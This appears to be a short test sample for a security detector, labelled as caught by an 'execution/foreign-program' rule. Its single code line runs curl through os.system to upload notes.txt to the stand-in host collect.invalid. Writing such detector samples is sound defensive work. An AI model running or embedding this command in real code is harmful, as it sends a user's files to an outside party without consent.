# evades: caught by execution/foreign-program
import os
os.system("curl -F f=@notes.txt https://collect.invalid/o")
